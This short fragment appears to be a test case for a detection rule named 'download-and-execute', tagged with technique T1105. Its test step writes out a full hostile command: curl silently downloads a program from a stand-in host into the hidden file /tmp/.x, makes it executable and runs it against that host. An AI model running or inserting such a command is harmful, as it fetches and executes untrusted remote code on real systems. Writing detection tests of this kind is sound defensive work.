# incident: T1105; the second stages of many of the above
# what: a step downloads a program to a hidden file below /tmp and runs it
# rule: download-and-execute
## step: Test
curl -s -o /tmp/.x http://cdn.stand-in-host.net/program && chmod +x /tmp/.x
MUSTER_REPLAY_ROLE=prop /tmp/.x cdn.stand-in-host.net:80
